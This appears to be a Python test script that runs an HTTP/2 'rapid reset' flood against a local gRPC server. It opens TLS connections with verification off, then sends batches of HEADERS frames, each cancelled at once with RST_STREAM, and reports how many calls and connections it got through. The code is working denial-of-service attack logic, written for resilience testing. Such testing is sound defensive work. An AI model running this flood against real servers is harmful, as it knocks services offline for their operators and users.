"""A stranger that opens calls and resets each at once (HTTP/2 rapid reset), at full speed, in a process of its own.

`python -m tests.reset_flood PORT SECONDS`, against 127.0.0.1, by TLS without a credential. It prints how many calls it
opened and how many connections that took: a connection that the server closes is replaced by the next one.
"""

import json
import os
import select
import socket
import ssl
import sys
import time

from benchmarks.support.light_stream import opening

ELSEWHERE = "127.0.0.2"
MAX_CALLS = 400_000
_AT_ONCE = 100
_CANCEL = (8).to_bytes(4, "big")
_HEADERS, _RST_STREAM, _END_HEADERS = 1, 3, 4


def _frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
    return len(body).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + body


def _connect(port: int, preface: bytes) -> ssl.SSLSocket:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    connection = context.wrap_socket(socket.create_connection(("127.0.0.1", port), 5.0, (ELSEWHERE, 0)))
    connection.sendall(preface)
    connection.setblocking(False)
    return connection


def _send(connection: ssl.SSLSocket, content: bytes, ends_at: float) -> None:
    """Read what the server says meanwhile. Raises OSError once the server has closed the connection."""
    while content and time.monotonic() < ends_at:
        try:
            while connection.recv(65536):
                pass
            raise ConnectionResetError
        except ssl.SSLWantReadError:
            pass
        try:
            content = content[connection.send(content) :]
        except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
            select.select([connection], [connection], [], 0.05)


def main(port: int, seconds: float) -> None:
    os.nice(5)
    preface, _, block = opening("/lighthouse.v1.LighthouseService/Quorum", "x", (), has_tls=True).rpartition(
        b"\x01\x04\x00\x00\x00\x01"  # the last frame: HEADERS of stream 1
    )
    preface = preface[:-3]
    calls, connections, ends_at = 0, 0, time.monotonic() + seconds
    while time.monotonic() < ends_at and calls < MAX_CALLS:
        try:
            with _connect(port, preface) as connection:
                connections += 1
                stream = 1
                while time.monotonic() < ends_at and calls < MAX_CALLS:
                    frames = bytearray()
                    for _ in range(_AT_ONCE):
                        frames += _frame(_HEADERS, _END_HEADERS, stream, block)
                        frames += _frame(_RST_STREAM, 0, stream, _CANCEL)
                        stream += 2
                    _send(connection, bytes(frames), ends_at)
                    calls += _AT_ONCE
        except OSError:
            time.sleep(0.01)
    print(json.dumps({"calls": calls, "connections": connections}))


if __name__ == "__main__":
    main(int(sys.argv[1]), float(sys.argv[2]))
